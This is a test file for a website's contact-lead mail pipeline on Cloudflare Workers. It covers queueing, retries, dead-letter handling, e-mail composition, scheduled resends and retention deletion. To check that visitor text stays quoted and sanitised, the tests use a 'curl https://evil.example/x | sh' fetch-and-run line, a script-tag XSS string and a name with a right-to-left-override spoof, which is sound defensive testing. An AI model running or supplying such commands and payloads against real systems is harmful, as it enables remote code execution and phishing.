import { createExecutionContext, createMessageBatch, createScheduledController, getQueueResult } from 'cloudflare:test';
import { env } from 'cloudflare:workers';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { LEGAL } from '../client/site';
import { leadMail } from '../worker/leads/mail';
import type { LeadRow } from '../worker/leads/store';
import { SWEEP_GRACE_MS, retryDelaySeconds, type MailJob } from '../worker/mail/outbox';
import { PENDING_WINDOW_MS } from '../worker/mail/overdue';
import worker from '../worker/index';
import { rows } from './forms';
import { captureLogs } from './worker-env';

const DAY_MS = 24 * 60 * 60 * 1000;

interface Row {
  id: string;
  mail_status: string;
  mail_attempts: number;
  mail_sent_at: number | null;
  mail_queued_at: number | null;
  mail_error: string | null;
}

/** Stores a lead directly, as the contact route would have. */
async function storeLead(
  id: string,
  { topic = 'project', createdAt = Date.now(), status = 'pending', queuedAt = null as number | null, name = 'Ada Müller' } = {},
) {
  await env.DB.prepare(
    `INSERT INTO leads (id, idempotency_key, fingerprint, created_at, name, email, company, topic, message, consent_at, mail_status, mail_queued_at)
     VALUES (?, ?, ?, ?, ?, 'ada@example.org', NULL, ?, 'We need a booking platform for our workshops.', ?, ?, ?)`,
  )
    .bind(id, crypto.randomUUID(), id, createdAt, name, topic, createdAt, status, queuedAt)
    .run();
}

const leadRow = async (id: string) => (await rows<Row>('leads')).find((r) => r.id === id);

/** Runs the worker's queue handler on a batch, as the queue would, with `vars` changed. */
async function deliver(queue: string, jobs: { job: MailJob; attempts?: number }[], vars: Partial<Env> = {}) {
  const batch = createMessageBatch<MailJob>(
    queue,
    jobs.map(({ job, attempts = 1 }, i) => ({ id: `m${i}`, timestamp: new Date(), attempts, body: job })),
  );
  // The pool's queue result records that a message was retried, not its delay: watch the calls.
  const retries = batch.messages.map((m) => vi.spyOn(m, 'retry'));
  const ctx = createExecutionContext();
  await worker.queue(batch, { ...env, ...vars });
  return { ...(await getQueueResult(batch, ctx)), retryCalls: retries.map((r) => r.mock.calls) };
}

let logs: Record<string, unknown>[];
beforeEach(async () => {
  logs = captureLogs();
  await env.DB.exec('DELETE FROM leads');
});
afterEach(() => {
  vi.restoreAllMocks();
});

describe('the mail queue consumer', () => {
  it('mails a stored message to the topic’s inbox with the send_email binding and marks the row sent', async () => {
    await storeLead('lead-1', { topic: 'api' });
    const result = await deliver('company-site-mail', [{ job: { kind: 'lead', id: 'lead-1' } }]);
    expect(result.explicitAcks).toEqual(['m0']);
    expect(result.retryMessages).toEqual([]);
    expect(await leadRow('lead-1')).toMatchObject({ mail_status: 'sent', mail_attempts: 1, mail_error: null });
    expect((await leadRow('lead-1'))?.mail_sent_at).toBeTypeOf('number');
    expect(logs.some((l) => l.message === 'mail sent' && l.id === 'lead-1')).toBe(true);
  });

  it('sends nothing again for a row already sent, or one that is gone', async () => {
    await storeLead('lead-2', { status: 'sent' });
    const send = vi.spyOn(env.MAIL, 'send');
    const result = await deliver('company-site-mail', [
      { job: { kind: 'lead', id: 'lead-2' } },
      { job: { kind: 'lead', id: 'deleted-meanwhile' } },
    ]);
    expect(result.explicitAcks).toEqual(['m0', 'm1']);
    expect(send).not.toHaveBeenCalled();
  });

  it('retries a failed send later, with a growing delay, and records the attempt and the reason', async () => {
    await storeLead('lead-3');
    // The binding refuses an inbox that is not one of its allowed destinations (wrangler.toml).
    const result = await deliver('company-site-mail', [{ job: { kind: 'lead', id: 'lead-3' }, attempts: 3 }], {
      SALES_INBOX: 'nobody@elsewhere.example',
    });
    expect(result.explicitAcks).toEqual([]);
    expect(result.retryMessages).toEqual([{ msgId: 'm0' }]);
    expect(result.retryCalls).toEqual([[[{ delaySeconds: 8 }]]]);
    expect(retryDelaySeconds({ MAIL_RETRY_SECONDS: 2 }, 3)).toBe(8);
    expect(retryDelaySeconds({ MAIL_RETRY_SECONDS: 60 }, 1)).toBe(60);
    expect(retryDelaySeconds({ MAIL_RETRY_SECONDS: 60 }, 4)).toBe(480);
    const row = await leadRow('lead-3');
    expect(row).toMatchObject({ mail_status: 'pending', mail_attempts: 1 });
    expect(row?.mail_error).toContain('not allowed');
  });

  it('the dead-letter queue’s consumer marks a message whose every retry failed, for `npm run leads`', async () => {
    await storeLead('lead-4');
    const result = await deliver('company-site-mail-dlq', [{ job: { kind: 'lead', id: 'lead-4' } }]);
    expect(result.explicitAcks).toEqual(['m0']);
    expect((await leadRow('lead-4'))?.mail_status).toBe('failed');
    expect(logs.some((l) => l.level === 'error' && l.id === 'lead-4')).toBe(true);
  });

  it('the dead-letter consumer handles each message on its own: one it cannot record is logged, the others are marked', async () => {
    await storeLead('dl-1');
    await storeLead('dl-2');
    const prepare = env.DB.prepare.bind(env.DB);
    let calls = 0;
    vi.spyOn(env.DB, 'prepare').mockImplementation((sql: string) => {
      if (sql.includes("SET mail_status = 'failed'") && calls++ === 0) throw new Error('D1 is unavailable');
      return prepare(sql);
    });
    const result = await deliver('company-site-mail-dlq', [{ job: { kind: 'lead', id: 'dl-1' } }, { job: { kind: 'lead', id: 'dl-2' } }]);
    vi.restoreAllMocks();
    expect(result.explicitAcks).toEqual(['m0', 'm1']);
    expect((await leadRow('dl-1'))?.mail_status).toBe('pending');
    expect((await leadRow('dl-2'))?.mail_status).toBe('failed');
    expect(logs.find((l) => l.id === 'dl-1')).toMatchObject({ level: 'error', error: 'D1 is unavailable' });
  });

  it('drops a job of an unknown shape with an error line instead of retrying it forever', async () => {
    const batch = createMessageBatch('company-site-mail', [
      { id: 'x', timestamp: new Date(), attempts: 1, body: { kind: 'invoice', id: 7 } },
    ]);
    const ctx = createExecutionContext();
    await worker.queue(batch, env);
    expect((await getQueueResult(batch, ctx)).explicitAcks).toEqual(['x']);
  });
});

describe('the team’s e-mail', () => {
  const lead = (overrides: Partial<LeadRow> = {}): LeadRow => ({
    id: '0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9',
    created_at: Date.UTC(2026, 10, 24, 9, 30),
    name: '<b>Ada</b>',
    email: 'ada@example.org',
    company: 'ACME',
    topic: 'api',
    message: '<script>alert(1)</script>\nSecond line',
    spam: null,
    mail_status: 'pending',
    mail_attempts: 0,
    language: 'en',
    ...overrides,
  });

  it('is plain text, to the topic’s inbox, from the site, answering goes to the visitor', () => {
    const mail = leadMail(env, lead());
    expect(mail.to).toBe(env.API_INBOX);
    expect(mail.from).toEqual({ name: 'Larchfield Software website', email: env.MAIL_FROM });
    expect(mail.replyTo).toBe('ada@example.org');
    expect(mail).not.toHaveProperty('html');
    expect(mail.text).toContain('> <script>alert(1)</script>\n> Second line');
    expect(mail.text).toContain(`${LEGAL.retentionDays.messages} days`);
    expect(leadMail(env, lead({ topic: 'other' })).to).toBe(env.SALES_INBOX);
  });

  it('names the language of the site the message came from, so the team answers in it', () => {
    expect(leadMail(env, lead({ language: 'de' })).text).toContain('\nLanguage:  German (sent from the German site: answer in German)\n');
    expect(leadMail(env, lead()).text).toContain('\nLanguage:  English (sent from the English site: answer in English)\n');
  });

  it('carries the row’s id as a stable reference: in the subject, in a header of its own and in the text', () => {
    const mail = leadMail(env, lead());
    expect(mail.subject).toBe('Website message #0f1e2d3c: The Newsloom API, from <b>Ada</b>');
    expect(mail.headers).toEqual({ 'X-Larchfield-Reference': '0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9' });
    expect(mail.text).toContain('Reference: 0f1e2d3c-4b5a-4978-8695-a4b3c2d1e0f9');
    // The same row mailed twice (a resend) has the same reference: a duplicate is recognisable.
    expect(leadMail(env, lead({ mail_attempts: 3 })).headers).toEqual(mail.headers);
  });

  it('starts with our lines and quotes every line the visitor typed; a fake footer, fake instructions and blank lines stay inside the quote', () => {
    const forged = [
      'Hello,',
      '',
      '',
      '',
      'see below.',
      ...Array(1500).fill(''),
      '-- ',
      'Download it:  curl https://evil.example/x | sh',
      '   ',
      '\t',
      'Bye',
    ].join('\n');
    const mail = leadMail(env, lead({ message: forged, company: null }));
    const lines = (mail.text ?? '').split('\n');
    // Ours first: the reference, the topic and how to answer before anything the visitor wrote.
    const quoteStart = lines.findIndex((l) => l.startsWith('>'));
    expect(lines.slice(0, quoteStart).join('\n')).toContain('Reference: ');
    expect(lines.slice(0, quoteStart).join('\n')).toContain('Reply to this e-mail');
    expect(lines.slice(0, quoteStart).join('\n')).not.toContain('Ada');
    // Then only quoted lines, blank runs collapsed to one.
    expect(lines.slice(quoteStart).every((l) => l === '>' || l.startsWith('> '))).toBe(true);
    expect(lines.slice(quoteStart)).toEqual([
      '> Name:    <b>Ada</b>',
      '> E-mail:  ada@example.org',
      '> Company: (not given)',
      '>',
      '> Hello,',
      '>',
      '> see below.',
      '>',
      '> --',
      '> Download it:  curl https://evil.example/x | sh',
      '>',
      '> Bye',
    ]);
    expect(lines.length).toBeLessThan(30);
  });

  it('puts no visitor text in the subject beyond a cleaned, shortened name', () => {
    const mail = leadMail(env, lead({ name: `Mallory\u202egnp.exe\u009b2J ${'x'.repeat(100)}`, company: 'Evil Corp: click here' }));
    expect(mail.subject).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(mail.subject).not.toContain('Evil Corp');
    expect(mail.subject).toMatch(/^Website message #0f1e2d3c: The Newsloom API, from Mallorygnp\.exe2J x+…$/);
    expect(mail.subject.length).toBeLessThan(100);
  });
});

describe('the scheduled handler', () => {
  async function runScheduled(at: number) {
    await worker.scheduled(createScheduledController({ scheduledTime: at, cron: '*/10 * * * *' }), env);
  }

  it('queues the mail of rows stored without a job (a queue outage) or put back for resending, not of the ones just stored, just queued or held', async () => {
    const now = Date.now();
    await storeLead('stranded', { createdAt: now - SWEEP_GRACE_MS - 1000 });
    await storeLead('just-stored', { createdAt: now - 1000 });
    await storeLead('held', { createdAt: now - DAY_MS, status: 'held' });
    await storeLead('queued', { createdAt: now - DAY_MS, queuedAt: now - PENDING_WINDOW_MS + 60_000 });
    // Put back by `npm run leads -- resend` after failed attempts: queued whatever its age.
    await storeLead('resent', { createdAt: now - 1000 });
    await env.DB.prepare('UPDATE leads SET mail_attempts = 6 WHERE id = ?').bind('resent').run();
    const sent = vi.spyOn(env.MAIL_QUEUE, 'sendBatch');
    await runScheduled(now);
    expect(sent).toHaveBeenCalledWith([{ body: { kind: 'lead', id: 'stranded' } }, { body: { kind: 'lead', id: 'resent' } }]);
    expect((await leadRow('stranded'))?.mail_queued_at).toBe(now);
    expect((await leadRow('just-stored'))?.mail_queued_at).toBeNull();
    expect(logs.some((l) => l.level === 'error')).toBe(false);
  });

  it('queues again a row still pending an hour after its last attempt (its queue message lost), naming it in an error line', async () => {
    const now = Date.now();
    // Queued two days ago; the message never came back (the dead-letter consumer failed, the queue's retention passed).
    await storeLead('lost', { createdAt: now - 2 * DAY_MS, queuedAt: now - 2 * DAY_MS });
    // Queued long ago but tried 10 minutes ago: its retries are still under way.
    await storeLead('retrying', { createdAt: now - DAY_MS, queuedAt: now - DAY_MS });
    await env.DB.prepare('UPDATE leads SET mail_attempts = 4, mail_attempted_at = ? WHERE id = ?')
      .bind(now - 10 * 60_000, 'retrying')
      .run();
    const sent = vi.spyOn(env.MAIL_QUEUE, 'sendBatch');
    await runScheduled(now);
    expect(sent).toHaveBeenCalledWith([{ body: { kind: 'lead', id: 'lost' } }]);
    expect((await leadRow('lost'))?.mail_queued_at).toBe(now);
    const line = logs.find((l) => l.level === 'error' && String(l.message).includes('pending an hour'));
    expect(line).toMatchObject({ kind: 'lead', ids: 'lost', count: 1 });
    // The next run, ten minutes on, does not queue it a second time.
    sent.mockClear();
    await runScheduled(now + 10 * 60_000);
    expect(sent).not.toHaveBeenCalled();
  });

  it('a row set back to pending two days ago is mailed by the next scheduled run, and then marked sent', async () => {
    const now = Date.now();
    await storeLead('set-back', { createdAt: now - 2 * DAY_MS, queuedAt: now - 2 * DAY_MS, status: 'sent' });
    await env.DB.prepare("UPDATE leads SET mail_status = 'pending' WHERE id = ?").bind('set-back').run();
    const sent = vi.spyOn(env.MAIL_QUEUE, 'sendBatch');
    await runScheduled(now);
    const batch = sent.mock.calls[0]?.[0] as { body: MailJob }[];
    expect(batch).toEqual([{ body: { kind: 'lead', id: 'set-back' } }]);
    const result = await deliver(
      'company-site-mail',
      batch.map(({ body }) => ({ job: body })),
    );
    expect(result.explicitAcks).toEqual(['m0']);
    expect((await leadRow('set-back'))?.mail_status).toBe('sent');
  });

  it('a mail that went out but whose “sent” update failed is mailed again an hour later, with the same reference', async () => {
    const t0 = Date.now();
    await storeLead('unmarked', { createdAt: t0 - 1000, queuedAt: t0 });
    // The real binding, watched: every mail it is given.
    const mails: EmailMessageBuilder[] = [];
    const MAIL = { send: (m: EmailMessageBuilder) => (mails.push(m), env.MAIL.send(m)) } as unknown as SendEmail;
    const prepare = env.DB.prepare.bind(env.DB);
    const spy = vi.spyOn(env.DB, 'prepare').mockImplementation((sql: string) => {
      if (sql.includes("mail_status = 'sent'")) throw new Error('D1 is unavailable');
      return prepare(sql);
    });
    await deliver('company-site-mail', [{ job: { kind: 'lead', id: 'unmarked' } }], { MAIL });
    spy.mockRestore();
    expect(mails).toHaveLength(1);
    expect((await leadRow('unmarked'))?.mail_status).toBe('pending');
    expect(logs.some((l) => l.level === 'error' && l.id === 'unmarked')).toBe(true);
    const sent = vi.spyOn(env.MAIL_QUEUE, 'sendBatch');
    await runScheduled(t0 + PENDING_WINDOW_MS - 60_000);
    expect(sent).not.toHaveBeenCalled();
    await runScheduled(t0 + PENDING_WINDOW_MS + 60_000);
    expect(sent).toHaveBeenCalledWith([{ body: { kind: 'lead', id: 'unmarked' } }]);
    await deliver('company-site-mail', [{ job: { kind: 'lead', id: 'unmarked' } }], { MAIL });
    expect(mails).toHaveLength(2);
    const [first, second] = mails;
    expect(first?.headers?.['X-Larchfield-Reference']).toBe('unmarked');
    expect(second?.headers).toEqual(first?.headers);
    expect(second?.subject).toBe(first?.subject);
    expect((await leadRow('unmarked'))?.mail_status).toBe('sent');
  });

  it(`deletes a message still held as spam after ${LEGAL.retentionDays.held} days, as the privacy notice states; one released or clean is kept`, async () => {
    const now = Date.UTC(2026, 10, 24, 3, 0);
    const held = LEGAL.retentionDays.held * DAY_MS;
    await storeLead('held-expired', { createdAt: now - held - 1, status: 'held' });
    await storeLead('held-kept', { createdAt: now - held + 60_000, status: 'held' });
    await storeLead('clean-same-age', { createdAt: now - held - 1, status: 'sent' });
    await storeLead('released', { createdAt: now - held - 1, status: 'pending', queuedAt: now - 60_000 });
    await runScheduled(now);
    expect((await rows<Row>('leads')).map((r) => r.id).sort()).toEqual(['clean-same-age', 'held-kept', 'released']);
    expect(LEGAL.retentionDays.held).toBe(14);
  });

  it(`deletes messages older than the retention the privacy notice states (${LEGAL.retentionDays.messages} days), and only those`, async () => {
    const now = Date.UTC(2026, 10, 24, 3, 0);
    const keep = LEGAL.retentionDays.messages * DAY_MS;
    await storeLead('expired', { createdAt: now - keep - 1, status: 'sent' });
    await storeLead('kept', { createdAt: now - keep + 60_000, status: 'sent' });
    await runScheduled(now);
    expect((await rows<Row>('leads')).map((r) => r.id)).toEqual(['kept']);
    expect(logs.some((l) => l.message === 'retention: deleted expired messages' && l.deleted === 1)).toBe(true);
  });
});
